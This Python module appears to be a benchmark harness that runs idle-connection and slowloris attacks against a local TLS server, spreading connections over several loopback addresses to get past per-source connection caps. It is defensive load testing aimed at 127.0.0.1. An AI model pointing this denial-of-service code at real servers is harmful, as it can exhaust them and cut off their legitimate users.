"""Hold connections open against a TLS server, as a hostile or careless client would, until killed.

    python -m bench.attack --port 8443 --idle 500 --trickle 50

- idle: connect, complete the TLS handshake, send one GET /healthz, then say nothing (a kept-alive
  connection left in a pool); reconnect when the server closes it.
- trickle: connect and send a request head one byte every half second, never finishing it
  (slowloris); reconnect when the server closes it.
Prints how many connections were opened, and how many of them replaced one the server closed, when it
exits (SIGTERM).

The connections come from SOURCES loopback addresses (127.0.0.2 onwards), a few hostile pods rather than
one: the server caps connections per source address, and the client measuring beside the attack (from
127.0.0.1, as the apiserver would be) must not share the attackers' address.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import signal
import ssl

HEAD = b"POST /mutate HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nX-Slow: " + b"a" * 4096


SOURCES = 8


class Tally:
    opened = 0


def source(n: int) -> tuple[str, int]:
    """The n-th attacking task's own loopback address, round robin over SOURCES addresses."""
    return (f"127.0.0.{2 + n % SOURCES}", 0)


async def idle(port: int, context: ssl.SSLContext, tally: Tally, n: int) -> None:
    while True:
        with contextlib.suppress(OSError, asyncio.IncompleteReadError, ssl.SSLError):
            reader, writer = await asyncio.open_connection("127.0.0.1", port, ssl=context, server_hostname="localhost",
                                                           local_addr=source(n))
            tally.opened += 1
            writer.write(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n")
            await reader.readuntil(b"\r\n\r\n")
            while await reader.read(65536):  # the body, then nothing until the server closes
                pass
        await asyncio.sleep(0.1)


async def trickle(port: int, context: ssl.SSLContext, tally: Tally, n: int) -> None:
    while True:
        with contextlib.suppress(OSError, asyncio.IncompleteReadError, ssl.SSLError):
            reader, writer = await asyncio.open_connection("127.0.0.1", port, ssl=context,
                                                           server_hostname="localhost", local_addr=source(n))
            tally.opened += 1
            for byte in HEAD:
                writer.write(bytes([byte]))
                await writer.drain()
                try:  # wait half a second, watching for the server's answer (a 408) and its close
                    if not await asyncio.wait_for(reader.read(65536), 0.5):
                        break
                except TimeoutError:
                    pass
        await asyncio.sleep(0.1)


async def main(port: int, n_idle: int, n_trickle: int) -> None:
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE  # the attacker does not care who answers
    tally = Tally()
    stop = asyncio.Event()
    asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, stop.set)
    tasks = [asyncio.create_task(idle(port, context, tally, n)) for n in range(n_idle)]
    tasks += [asyncio.create_task(trickle(port, context, tally, n)) for n in range(n_trickle)]
    await stop.wait()
    for task in tasks:
        task.cancel()
    # Every connection past the first n_idle + n_trickle replaced one the server closed (or reset).
    print(f"{tally.opened} opened, {tally.opened - n_idle - n_trickle} after a server close", flush=True)


if __name__ == "__main__":
    parser = argparse.ArgumentParser(prog="python -m bench.attack", description=__doc__)
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--idle", type=int, default=500)
    parser.add_argument("--trickle", type=int, default=50)
    args = parser.parse_args()
    asyncio.run(main(args.port, args.idle, args.trickle))
